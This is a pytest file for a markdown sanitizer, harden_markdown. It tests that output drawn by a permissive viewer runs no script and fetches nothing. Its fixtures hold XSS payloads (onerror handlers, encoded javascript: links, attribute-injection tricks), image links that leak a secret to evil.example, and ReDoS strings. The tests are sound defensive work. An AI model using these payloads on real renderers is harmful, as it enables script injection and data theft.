"""Hardened markdown, drawn by a viewer that allows everything, must run and fetch nothing; and people must read it."""

from __future__ import annotations

import re
import time
from functools import cache

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ipyconvexai.render import harden_markdown, markdown_bundle, plain_text, safe_html
from tests.judging import PAYLOADS, harmful

PERMISSIVE = MarkdownIt("js-default", {"html": True, "linkify": False})
PERMISSIVE.validateLink = lambda url: True  # type: ignore[method-assign]  # some viewers check no scheme at all


def hides_formulas(markdown: str) -> str:
    """Draw as JupyterLab does: formulas are taken out first, and put back later with their quotes as they were.

    Bare addresses become links, up to the next space.
    """
    formulas: list[str] = []

    def take(match: re.Match[str]) -> str:
        formulas.append(match[0].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return f"@@{len(formulas) - 1}@@"

    covered = re.sub(r"(?ms)^(`{3,})[^`\n]*\n.*?^\1`*$", lambda m: m[0].replace("$", "~D"), markdown)
    inside = r"(?:(?!\n[ \t]*\n).)*?"
    pattern = rf"(?s)\$\${inside}\$\$|(?<![\\$])\${inside}\$|\\begin\{{a\}}{inside}\\end\{{a\}}|\\\\\({inside}\\\\\)"
    html = PERMISSIVE.render(re.sub(pattern, take, covered).replace("~D", "$"))
    parts = re.split(r"(<a .*?</a>|<code.*?</code>|<[^>]*>)", html, flags=re.S)
    parts[::2] = [re.sub(r"((?:https?://|www\.)[^\s<]*)", r'<a href="https:\1">\1</a>', part) for part in parts[::2]]
    html = "".join(parts)
    return re.sub(r"@@(\d+)@@", lambda m: formulas[int(m[1])] if int(m[1]) < len(formulas) else m[0], html)


def verdict(text: str) -> list[str]:
    hardened = harden_markdown(text)
    twice = harden_markdown(hardened)
    drawn = [PERMISSIVE.render(hardened), hides_formulas(hardened), PERMISSIVE.render(twice), safe_html(text)]
    return [finding for html in drawn for finding in harmful(html)]


@cache
def shown(markdown: str) -> str:
    """What a reader sees."""
    tree = html5lib.parseFragment(PERMISSIVE.render(markdown), namespaceHTMLElements=False)
    return "".join(tree.itertext())


def test_the_judge_flags_what_is_not_hardened() -> None:
    """The control: the list, drawn raw, is harmful. Otherwise the tests below could not fail."""
    flagged = sum(bool(harmful(payload)) for payload in PAYLOADS)
    assert flagged >= 0.9 * len(PAYLOADS)


def test_no_public_payload_survives() -> None:
    survivors = [p for p in PAYLOADS if harmful(PERMISSIVE.render(harden_markdown(p)))]
    assert survivors == []


@pytest.mark.parametrize(
    "frame",
    [
        "- a\n  ```\n{}",
        " ```\n```\n{}\n```",
        "> ```\n{}",
        "1. a\n\n   ```html\n   {}\n   ```\n\n```html\n{}\n```",
        "`a` {} `b`",
        '[a]({} "t")\n\n[b]: {}',
        "$x {} y$",
        "$$\n```\n$$ {}\n```",
        "\\begin{{a}}\n```\n\\end{{a}} {}\n```",
        '[x](https://a.example/$" {} z="$)',
        "| a | b |\n|---|---|\n| `{}` | {} |",
        "    {}\n\n\t{}",
    ],
)
def test_no_payload_survives_in_a_frame(frame: str) -> None:
    step = 41  # every frame meets another part of the list
    part = PAYLOADS[len(frame) % step :: step]
    survivors = [p for p in part if verdict(frame.format(*[p] * frame.count("{}")))]
    assert survivors == []


def test_no_public_payload_survives_as_html() -> None:
    survivors = [p for p in PAYLOADS[::4] if harmful(safe_html(p))]
    assert survivors == []


IMG = "<img src=x onerror=alert(1)>"
TRICKY = {
    "fence indented, next closes it": f" ```\n```\n{IMG}\n```",
    "fence of three spaces": f"   ```\n```\n{IMG}",
    "fence in a list, then text": f"- a\n  ```\n{IMG}",
    "fence on the list's line": f"- ```\n{IMG}",
    "fence in a nested list": f"- a\n  - b\n    ```\n    {IMG}\n    ```\n{IMG}",
    "fence in a list, html fence after": f"- a\n  ```\n  x\n  ```\n\n```html\n{IMG}\n```",
    "list fence left open, fence after": f"- a\n  ```\n  x\n\n```\n{IMG}\n```",
    "sloppy list fence": f"1. a\n   ```\n{IMG}\n   ```\n{IMG}",
    "fence in a quotation": f"> ```\n{IMG}\n> ```\n```\n{IMG}\n```",
    "fence in a footnote": f"[^1]: ```\n{IMG}\n```\n{IMG}",
    "tilde fence with backtick fence": f"~~~\n```\n{IMG}\n~~~\n{IMG}\n```",
    "tilde fence, indented": f"  ~~~\n~~~\n{IMG}",
    "fence closed by a longer one": f"```\n````\n{IMG}",
    "fence with trailing blanks": f"$$\n```\n$$\n``` \n{IMG}",
    "fence in carriage returns": f"```\r{IMG}\r```\r{IMG}",
    "fence after a line separator": f"```\n\u2028```\n{IMG}",
    "fence with attributes": f"```{{=html}} onclick=alert(1)\n{IMG}\n```\n{IMG}",
    "open fence": f"```html\n{IMG}",
    "fence that draws": '```mermaid\nflowchart TD\nA@{ img: "http://evil.example/x" }\n```',
    "unclosed span": f"`a {IMG}",
    "escaped span": "\\`[x](javascript:alert(1))`",
    "span over blank lines": f"`a\n\n{IMG}`",
    "span with attributes": f"`{IMG}`{{=html}}",
    "image": "![a](http://evil.example/?secret)",
    "image without words": "![](http://evil.example/?secret)",
    "image by reference": "![a][r]\n\n[r]: http://evil.example/x",
    "image after a backslash": r"\\![a](http://evil.example/x)",
    "image after an address": r"https://a.example/\![](http://evil.example/x)",
    "script link": "[a](javascript:alert(1))",
    "script link over lines": "[a](\n javascript:alert(1))",
    "script link in brackets": "[a](<javascript:alert(1)>)",
    "script link, encoded": "[a](java&#115;cript:alert(1)) [b](&#x6a;avascript:x) [c](javascript&colon;alert(1))",
    "script link with a tab": "[a](java\tscript:alert(1)) [b](\x01javascript:alert(1))",
    "data link": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](//evil.example) [d](/api/x)",
    "script definition": "[a]\n\n[a]: javascript:alert(1)",
    "script definition over lines": "[a]\n\n[a]:\n   javascript:alert(1)\n 'title'",
    "script definition in a quotation": "> [a]:\n> javascript:alert(1)\n\n[a]",
    "script footnote": "[^1]\n\n[^1]: javascript:alert(1)",
    "script autolink": "<javascript:alert(1)> <data:text/html,x>",
    "html in a title": f'[a](https://a.example "{IMG}")',
    "quote in a title": '[a](https://a.example "x\\" onmouseover=alert(1) y=\\"")',
    "formula in a title": '[a](https://a.example "$" onmouseover=alert(1) y="$")',
    "formula in a title on the next line": '[a]\n\n[a]: https://a.example\n"$" onmouseover=alert(1) y="$"',
    "formula in an address": '[a](https://a.example/$"onmouseover=alert(1)//$)',
    "formula in a bare address": 'https://a.example/$"onmouseover=alert(1)//$ www.a.example/$"onclick=x$',
    "formula in a bare address after a tag": 'https://a.example/<b>$"onmouseover=alert(1)//$',
    "formula in a bare address after backticks": 'https://a.example/```$" onmouseover=alert(1) $',
    "formula in a bare address in a span": '\\\\`https://a.example/$" onmouseover=alert(1) $`',
    "list that is none, with a fence": f"text\n2. ```\n   {IMG}\n   ```",
    "list that is none, fence after": f"text\n2. ```\n   x\n   ```\n\n```\n{IMG}\n```",
    "list that is none, fence with a fence after": f"text\n2. ```\n   x\n   ```\n\n~~~html\n```\n{IMG}\n~~~",
    "formula over a fence": f"\\begin{{a}}\n```text\n\\end{{a}}\n{IMG}\n```",
    "formula over a fence, by dollars": f"$$\n```text\n$$\n{IMG}\n```",
    "formula with a tag": f"$a{IMG}$ $$b\n{IMG}$$ \\\\({IMG}\\\\)",
    "comment": f"<!-- a --> {IMG} <!--\n\n{IMG}\n-->",
    "declaration": f"<?php ?> <!DOCTYPE html> <![CDATA[ {IMG} ]]>",
    "tag over lines": "<img\nsrc=x\nonerror=alert(1)>",
    "tag after a backslash": f"\\{IMG} \\\\{IMG}",
    "tag after less-than": f"<{IMG} <\u200b{IMG}",
    "tag in a heading": f"{IMG}\n===\n# {IMG}\n{IMG}\n---",
    "tag in a table": f"| a |\n|---|\n| {IMG} `{IMG}` |",
    "tag in indented code": f"    {IMG}\n\n\t{IMG}",
    "html block": f"<div>\n\n```\n</div>{IMG}\n```\n",
    "script block": f"<script>\n```\n</script>{IMG}\n```",
    "NUL and escapes": f"<\0img src=x onerror=alert(1)> \x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\ {IMG}",
    "lone surrogates": f"\ud800{IMG}\udfff `\udc80<b>`",
    "our own code, feigned": f"<code>{IMG}</code> <pre><code>a</code> <code onclick=alert(1)>b</code>",
    "our own code with an image": "<code>![a](http://evil.example/x)</code>",
}


@pytest.mark.parametrize("text", TRICKY.values(), ids=TRICKY.keys())
def test_tricky_shapes_are_harmless(text: str) -> None:
    assert verdict(text) == []
    assert plain_text(harden_markdown(text)) == harden_markdown(text)
    harden_markdown(text).encode()  # what cannot be encoded cannot be sent to a browser


@pytest.mark.parametrize("text", TRICKY.values(), ids=TRICKY.keys())
def test_every_beginning_of_a_stream_is_harmless(text: str) -> None:
    beginnings = [text[:i] for i in range(1, len(text), 5)]
    assert [b for b in beginnings if harmful(hides_formulas(harden_markdown(b)))] == []


WRITTEN = (
    "` `` $ $$ \\begin{a} \\end{a} \\\\( \\\\) { } \\ <!-- --> <pre> </pre> <code> ![a](http://e.example) ![][r] "
    "[a](javascript:x) [a]( ]( ) [a] [r]: javascript:x http://e.example/ www.e.example/ <https://e.example> \" ' # --- "
    "| word &lt; &#60; @@0@@ [^1]: {=html} ! [ ] < > \\` \\$ : //"
).split()
LINES = [IMG, "\n", "\n", "\n\n", "  ", "   ", "    ", "\t", "- ", "1. ", "> ", '" onclick=x "', "\r", "\u2028", " "]
FRAGMENTS = st.sampled_from([*WRITTEN, *LINES, "```", "````", "~~~", "```py"])


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(FRAGMENTS | st.text(max_size=4), max_size=30).map("".join))
def test_whatever_is_written_is_harmless(text: str) -> None:
    assert verdict(text) == []


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from([*WRITTEN, *LINES, "\n```py\n", "\n- ```\n", "again", "hello", "words"])).map(" ".join))
def test_words_survive(text: str) -> None:
    hardened = harden_markdown(text)
    for word in ("again", "hello", "words"):
        assert hardened.count(word) == text.count(word)


ORDINARY = """\
Title
=====

## Heading with `code`, *emphasis* and **strength** ##

A paragraph with a [link](https://example.org/a_(b)?c=d&e=f "title"), <b@example.org without end, an anchor
[up](#top), [mail](mailto:a@example.org), a [reference][r], ~~struck~~, 5 < 6, i<3,
x <= y, a <- b, wow! [sic], a\\_b, &amp;.

````markdown
```html
<img src=x>
```
````

- one
- two `List[int]` `a < b` `x[0]`
    - nested
1. three
   - [ ] task

   more of three
2. four:

   ```bash
   pip install example
   ```

   after

> quoted
> ```
> code
> ```

| a | b |
|:--|--:|
| 1 | `x|y` |

```python
def f(x):
    return "<b>" if x < 3 else '![x](http://y)'
```

---

$E = mc^2$, $a < b$, \\(x\\), and

$$
\\int_0^1 x\\,dx
$$

    indented code

[r]: https://example.org "title"
"""


def test_ordinary_markdown_is_left_as_it_is() -> None:
    expected = ORDINARY.replace("<b@", "&lt;b@")
    assert harden_markdown(ORDINARY) == expected


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("`vector<int>` and `<b>`", "vector<int> and <b>"),
        ("`` a`<b> ``", "a`<b>"),
        ("| `a\\|<b>` |\n|---|\n| x |", "a|<b>"),
        ("a <b>bold</b> \\<i> \\\\<u>", "a <b>bold</b> <i> \\<u>"),
        ("see <https://example.org/x>, <me@example.org>", "see https://example.org/x, me@example.org"),
        ("[a](javascript:x)", "[a](javascript:x)"),
        ("[note]: this is text", "[note]: this is text"),
        ("![a cat](https://example.org/c.png)", "🖼 a cat"),
        ("![](https://example.org/c.png)", "🖼 image"),
        ("wow\\![x](https://example.org)", "wow!x"),
        ("```` ```x``` ````", "```x```"),
        ("- a:\n  ```cpp\n  vector<int> v;\n\n    $x[0](\\t)\n  ```\n- b", "vector<int> v;\n\n  $x[0](\\t)"),
        ("> ```\n> <b>\n> ```", "<b>"),
        ("    <b>indented</b>", "<b>indented</b>"),
        ("1. a\n   ```\n<b>\n   ```\n2. b", "<b>"),
        ("$a<b$ and $f'(x)[i](y)$", "$a\\lt b$ and $f'(x)[i] (y)$"),
        ("$$ x\n\n```php\n<?php $$x $$y ?>\n```", "<?php $$x $$y ?>"),
        ("it costs $5 to $10", "it costs $5 to $10"),
    ],
)
def test_what_is_changed_still_looks_right(text: str, seen: str) -> None:
    assert seen in shown(harden_markdown(text))


def test_html_in_a_fence_at_the_margin_stays_source() -> None:
    text = "Look:\n\n```html\n<b>x</b>\n```\n\nDone."
    assert harden_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("```mermaid\nA-->B\n```", "```text\nA-->B\n```"),
        ("```{=html} onclick=x\na\n```", "```\na\n```"),
        ("~~~ python {x}\na\n~~~~", "```python\na\n```"),
        ("1. a\n   ```\n<b>\n   ```", "1. a\n   <pre><code>&#60;b&#62;</code></pre>"),
        ("1. a\n   ```sh\nb\n   ```\n2. c", "1. a\n   ```sh\n   b\n   ```\n2. c"),
        ("- ```\n  <b>\nc", "- <pre><code>&#60;b&#62;</code></pre>\nc"),
        ("    <b>", "```\n<b>\n```"),
        ("[^1]: ```", "[^1]&#58; &#96;&#96;&#96;"),
        ("a ~~~b", "a &#126;&#126;&#126;b"),
        ("```x```", "`x`"),
        ("``` a`b ```", "`` a`b ``"),
        ("`a`{=html}", "`a`&#123;=html}"),
        ("- ` a\n- <b> ` c", "- ` a\n- &lt;b> ` c"),
        ("\\`a<b>`", "\\`a&lt;b>`"),
        ("`https://a.example/$b`", "<code>https&#58;//a&#46;example/&#36;b</code>"),
        ("https://a.example/`$b`", "https://a.example/ `$b`"),
        ("https://a.example/$b", "https://a.example/&#36;b"),
        ("\\\\![a](https://a.example)", "\\\\🖼 [a](https://a.example)"),
        ("\\![a](https://a.example)", "&#33;[a](https://a.example)"),
        ("\\href{https://a.example}{b}", "&#92;href{https://a.example}{b}"),
        ("$\\href{javascript:x}{y} z$", "$href{javascript:x}{y} z$"),
        ("$\\text{ https://a.example }![b]:(c)$", "$\\text{ https: //a.example }! [b] :(c)$"),
        ("$```$", "$` ` `$"),
        ("<https://a.example>b", "https://a.example b"),
    ],
)
def test_what_is_written(text: str, written: str) -> None:
    assert harden_markdown(text) == written


@pytest.mark.parametrize("sign", ["$$", "\\\\[", "\\begin{a}"])
def test_a_fence_that_a_formula_could_swallow_is_no_source(sign: str) -> None:
    """Some viewers let a formula go on over blank lines and fences."""
    closer = sign.replace("[", "]").replace("begin", "end")
    hardened = harden_markdown(f"{sign} x\n\n```html\n{closer} <b>\n```")
    assert "<b>" not in hardened
    assert f"{closer} <b>" in shown(hardened)


def test_a_blank_line_stands_before_a_fence() -> None:
    assert harden_markdown("a\n```\nb\n```\nc") == "a\n\n```\nb\n```\nc"


def test_links_keep_their_place() -> None:
    html = PERMISSIVE.render(
        harden_markdown("[a](<https://example.org/x>) [b](HTTPS://example.org/y) [c][r]\n\n[r]: <https://z.example>")
    )
    assert re.findall(r'href="([^"]*)"', html) == [
        "https://example.org/x",
        "HTTPS://example.org/y",
        "https://z.example",
    ]


def test_a_growing_answer_has_its_fence_closed() -> None:
    assert harden_markdown("a\n\n```py\nx = 1") == "a\n\n```py\nx = 1\n```"


@pytest.mark.parametrize("text", [ORDINARY, *TRICKY.values()])
def test_hardening_twice_changes_nothing_that_is_seen(text: str) -> None:
    once = harden_markdown(text)
    assert shown(harden_markdown(once)) == shown(once)


HOSTILE_TO_PATTERNS = [
    "www." * 5000, "`a " * 7000, "- ```\n" * 3400, "- ````\n   ```\n" * 1500, "   ```\n" * 2800, "\\(" * 10000,
    "$ " * 10000, "\\begin{a}" * 2200, "![" * 10000, "[a](https://a(" * 1500, "<" * 20000, "\\" * 20000,
    "]:" + " " * 20000, "[a]:" + " \n" * 8000, '[a](https://a "' + " " * 20000, "<a@" * 6000, "<a." * 6000,
    "1. " * 6000 + "```", "<code>" * 3300, "](https://" + "(a)" * 6000, "\x1b]" * 10000, "> " * 10000 + "```",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE_TO_PATTERNS, ids=[repr(t[:12]) for t in HOSTILE_TO_PATTERNS])
def test_no_text_makes_it_slow(text: str) -> None:
    """A pattern that goes quadratic takes 12 s for these 20 kB; all take about 30 ms."""
    begin = time.process_time()
    harden_markdown(text)
    assert time.process_time() - begin < 2


def test_bundle_has_a_note_in_markdown_only() -> None:
    bundle = markdown_bundle("**a** \x1b[31mb", note="smol*lm2*\n<b> · 34 tokens")
    assert bundle["text/plain"] == "**a** b"
    assert "<em>" in PERMISSIVE.render(bundle["text/markdown"])
    assert shown(bundle["text/markdown"]).split("\n")[1] == "smol*lm2* <b> · 34 tokens"
    assert harmful(PERMISSIVE.render(bundle["text/markdown"])) == []


def test_bundle_without_a_note() -> None:
    assert markdown_bundle("a") == {"text/markdown": "a", "text/plain": "a"}


def test_bundle_of_an_open_fence_keeps_the_note_out_of_it() -> None:
    html = PERMISSIVE.render(markdown_bundle("```\nx", note="n")["text/markdown"])
    assert html.endswith("<p><em>n</em></p>\n")
